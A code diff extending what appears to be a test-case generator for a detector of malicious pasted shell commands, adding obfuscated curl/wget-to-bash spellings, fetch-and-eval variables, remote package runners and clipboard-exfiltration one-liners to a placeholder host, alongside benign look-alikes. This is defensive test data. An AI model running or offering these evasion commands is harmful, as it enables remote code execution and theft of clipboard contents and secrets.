@@ -15,8 +15,11 @@ Techniques (lure / look-alike that stays quiet):
   files (ls /etc/*.conf, for f in /var/log/*.log).
 - `sh-brace-words`: brace expansion instead of spaces ({curl,-s,URL}|{bash,}) / mkdir -p
   src/{a,b}, cp x{,.bak}.
-- `sh-empty-expansion`: an empty $@, $* or unset ${x} inside a name (cu$@rl, ba${x}sh) / "$@"
-  passed on in a function, ${VERSION} in a file name.
+- `sh-empty-expansion`: an empty $@, $*, $() or unset ${x} inside a name (cu$@rl, ba${x}sh,
+  cur$()l) / "$@" passed on in a function, ${VERSION} in a file name.
+- `sh-ifs`, `sh-backslash-wrapped`, `sh-fetched-variable`: $IFS for spaces, a hidden name behind
+  sudo or env, a download kept in a variable and then eval'd / IFS set for read, sudo env,
+  an API answer kept and printed.
 - `zsh-equals`: zsh's =(curl …) given to a shell / diff =(ls a) =(ls b), vim =(curl …).
 - `network-text-to-shell`: finger / DNS TXT / nc output piped into a shell / a finger lookup,
   dig of a TXT record read.
@@ -134,6 +137,50 @@ def shell_spelling() -> list[dict[str, str]]:
     return out
 
 
+MORE_SPELLINGS = (
+    ("sh-ifs", "curl${IFS}-s${IFS}URL|bash"),
+    ("sh-ifs", "curl$IFS-fsSL$IFS'URL'|sh"),
+    ("sh-ifs", "wget${IFS}-qO-${IFS}URL|sh"),
+    ("sh-glob-path", 'sudo /???/b?sh -c "$(curl -s URL)"'),
+    ("sh-glob-path", '/bin/ba[s]h -c "$(/usr/bin/cu[r]l -s URL)"'),
+    ("sh-glob-path", "env /usr/bin/c?rl -s URL | /b?n/sh"),
+    ("sh-empty-expansion", "cur$()l -s URL | ba$()sh"),
+    ("sh-empty-expansion", "w$()get -qO- URL | s$()h"),
+    ("sh-backslash-wrapped", "env c\\url -s URL | env ba\\sh"),
+    ("sh-backslash-wrapped", "sudo c\\url -s URL | sudo b\\ash"),
+    ("sh-fetched-variable", 'X=$(curl -s URL);eval "$X"'),
+    ("sh-fetched-variable", 'p=$(wget -qO- URL); bash -c "$p"'),
+    ("sh-fetched-variable", 'c="$(curl -fsSL URL)" && eval "${c}"'),
+)
+
+
+def more_spellings() -> list[dict[str, str]]:
+    out = []
+    for i, (tech, shape) in enumerate(MORE_SPELLINGS, 1):
+        text = shape.replace("URL", url(i, "m"))
+        expect = "flagged" if tech == "sh-fetched-variable" else "malicious"
+        out.append(case(f"b4nix-spelling-{i:02d}", text, expect, tech, "linux", source=page(i)))
+    return out
+
+
+def more_spellings_benign() -> list[dict[str, str]]:
+    texts = (
+        ("sh-ifs", 'OLDIFS=$IFS; IFS=,; read -r a b <<< "x,y"; IFS=$OLDIFS'),
+        ("sh-ifs", "printf '%s' \"$IFS\" | od -c"),
+        ("sh-ifs", 'while IFS= read -r line; do echo "$line"; done < hosts.txt'),
+        ("sh-fetched-variable", 'X=$(curl -s https://api.github.com/repos/o/r); echo "$X" | jq .name'),
+        ("sh-fetched-variable", 'ip=$(curl -s https://ifconfig.me); echo "my address is $ip"'),
+        ("sh-backslash-wrapped", "sudo env DEBIAN_FRONTEND=noninteractive apt-get upgrade -y"),
+        ("sh-backslash-wrapped", "sudo -u postgres psql -c 'select 1'"),
+        ("sh-empty-expansion", 'echo "build $(date +%F)" > VERSION'),
+    )  # fmt: skip
+    return [
+        case(f"b4nix-ok-spelling-{i:02d}", text, "not_flagged", tech, "linux",
+             source="https://unix.stackexchange.com/questions/2345")
+        for i, (tech, text) in enumerate(texts, 1)
+    ]  # fmt: skip
+
+
 def shell_spelling_benign() -> list[dict[str, str]]:
     texts = (
         ("sh-glob-path", "ls -la /etc/*.conf"),
@@ -247,6 +294,11 @@ FETCH_SHAPES = (
     ("git", "git clone URL fix\ncd fix\nbash run.sh"),
     ("git", "git clone --depth 1 URL helper && python3 helper/main.py"),
     ("git", "git clone URL && cd kit && sudo sh setup.sh"),
+    ("runner", "npm exec --yes -- URL.tgz"),
+    ("runner", "bunx URL.tgz"),
+    ("runner", "uv run URL.py"),
+    ("runner", "pipx run URL.py"),
+    ("cargo", "cargo install --git URL.git"),
 )
 
 
@@ -278,6 +330,9 @@ OWN_FETCHES = (
     ("https://fresh.deno.dev/docs/getting-started", "deno run -A -r https://fresh.deno.dev"),
     ("https://github.com/huggingface/transformers",
      "pip install git+https://github.com/huggingface/transformers"),
+    ("https://github.com/acme-labs/tool", "cargo install --git https://github.com/acme-labs/tool"),
+    ("https://github.com/acme-labs/tool",
+     "uv run https://raw.githubusercontent.com/acme-labs/tool/main/scripts/report.py"),
     ("https://gitlab.com/acme-labs/scanner",
      "pip install https://gitlab.com/acme-labs/scanner/-/archive/main/scanner-main.tar.gz"),
     ("https://github.com/acme-labs/kit",
@@ -294,6 +349,8 @@ PLAIN_PACKAGES = (
     "deno run main.ts",
     "npm install -g npm@latest",
     "npx create-react-app my-app",
+    "bunx create-vite my-app",
+    "uv run script.py",
     "pip install --upgrade pip",
     "pip3 install torch torchvision --index-url https://download.pytorch.org/whl/cu121",
     "pip install --extra-index-url https://pypi.example.org/simple internal-lib",
@@ -385,6 +442,7 @@ def sends_private_data() -> list[dict[str, str]]:
         ("macos", "pbpaste | curl -s --data-binary @- https://HOST/p"),
         ("macos", "pbpaste | curl -s -d @- https://HOST/p"),
         ("linux", "xsel -b | curl -s -X POST --data-binary @- https://HOST/p"),
+        ("macos", "osascript -e 'the clipboard' | curl -s -d @- https://HOST/c"),
         ("windows",
          "netsh wlan show profiles | Select-String ':\\s(.+)$' | % { netsh wlan show profile name=$_.Matches.Groups[1].Value key=clear } | Out-String | % { irm https://HOST/k -Method Post -Body $_ }"),
         ("windows",
@@ -414,6 +472,7 @@ def sends_private_data_benign() -> list[dict[str, str]]:
         "Get-Clipboard | Set-Content notes.txt",
         "curl -s -X POST --data-binary @payload.json -H 'Content-Type: application/json' https://api.example.com/v1/items",
         "scrot ~/Pictures/%Y-%m-%d.png",
+        "osascript -e 'set the clipboard to \"hello\"'",
     )  # fmt: skip
     return [
         case(
@@ -630,6 +689,8 @@ def build() -> list[dict[str, str]]:
     cases = [
         *shell_spelling(),
         *shell_spelling_benign(),
+        *more_spellings(),
+        *more_spellings_benign(),
         *network_text(),
         *code_from_address(),
         *code_from_address_benign(),
